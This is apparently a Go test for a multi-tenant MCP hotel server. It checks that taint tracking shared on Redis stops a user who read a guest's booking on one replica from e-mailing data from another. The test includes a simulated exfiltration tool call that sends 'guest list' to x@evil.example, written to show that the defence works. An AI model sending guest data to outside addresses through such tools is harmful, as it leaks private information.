package hotel_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"log/slog"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/redis/go-redis/v9"

	"github.com/tenantmcp/tenantmcp/claims/devtoken"
	"github.com/tenantmcp/tenantmcp/examples/hotel/hotel"
	"github.com/tenantmcp/tenantmcp/flow"
	"github.com/tenantmcp/tenantmcp/server/redisstore"
)

// Two hotel replicas on databases that are not PostgreSQL (each its own
// embedded SQLite with the same demo data) share their flow taints on
// Redis (Options.Taints, redisstore.NewTaints): carol reads a guest's
// booking on one and tries to e-mail it from the other; denied. A subject
// who read nothing is not.
func TestReplicasShareTaintOnRedis(t *testing.T) {
	addr := os.Getenv("TENANTMCP_TEST_REDIS_ADDR")
	if addr == "" {
		t.Skip("set TENANTMCP_TEST_REDIS_ADDR=127.0.0.1:6379 to run the hotel replicas on a Redis taint store")
	}
	rc := redis.NewClient(&redis.Options{Addr: addr})
	t.Cleanup(func() { rc.Close() })
	var b [8]byte
	_, _ = rand.Read(b[:])
	prefix := "tenantmcp-test:" + hex.EncodeToString(b[:]) + ":"
	t.Cleanup(func() {
		if keys, err := rc.Keys(context.Background(), prefix+"*").Result(); err == nil && len(keys) > 0 {
			rc.Del(context.Background(), keys...)
		}
	})
	is, err := devtoken.Start(devtoken.Options{Addr: "127.0.0.1:0", Audience: "http://hotel-redis-taint.test/mcp", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { is.Close() })
	mint := func(sub string) string {
		tok, err := is.Mint(devtoken.Token{Subject: sub, Groups: []string{"/tenants/acme/hotels/acme-paris"}, Roles: []string{"front_desk"}, TTL: time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}
	start := func() *replica {
		t.Helper()
		st, err := redisstore.NewTaints(rc, redisstore.Options{Prefix: prefix, Timeout: 2 * time.Second})
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		app, err := hotel.New(ctx, hotel.Options{Addr: "127.0.0.1:0", JWKSURL: is.JWKSURL, Issuer: is.URL, Audience: is.Audience,
			Logger: slog.New(slog.DiscardHandler), AuditLogger: slog.New(slog.DiscardHandler), Taints: st})
		if err != nil {
			cancel()
			t.Fatal(err)
		}
		done := make(chan error, 1)
		go func() { done <- app.Serve(ctx) }()
		t.Cleanup(func() { cancel(); <-done; app.Close() })
		return &replica{app: app}
	}
	a, bb := start(), start()
	var booking int64
	for _, bk := range a.app.Data.Bookings {
		if a.app.Data.HotelOfBooking(bk.ID) == "acme-paris" {
			booking = bk.ID
			break
		}
	}
	carol, dave := mint("carol"), mint("dave")
	if d, res := call[hotel.BookingDetail](t, a.connect(t, carol), "get_booking", map[string]any{"id": booking}); res.IsError || d.Guest.Email == "" {
		t.Fatalf("get_booking on replica a: %s", text(res))
	}
	exfil := map[string]any{"to": "x@evil.example", "body": "guest list"}
	sink := func(r *replica, token string) error {
		_, err := r.connect(t, token).CallTool(context.Background(), &mcp.CallToolParams{Name: "send_confirmation_email", Arguments: exfil})
		return err
	}
	if err := sink(bb, carol); err == nil || !strings.Contains(err.Error(), flow.RuleCategory) {
		t.Fatalf("sink on replica b after a PII read on replica a: %v, want %s", err, flow.RuleCategory)
	}
	if err := sink(bb, dave); err != nil {
		t.Fatalf("a subject who read nothing: %v", err)
	}
	if n := len(bb.app.Outbox.Messages()); n != 1 {
		t.Fatalf("replica b sent %d messages, want dave's 1", n)
	}
}
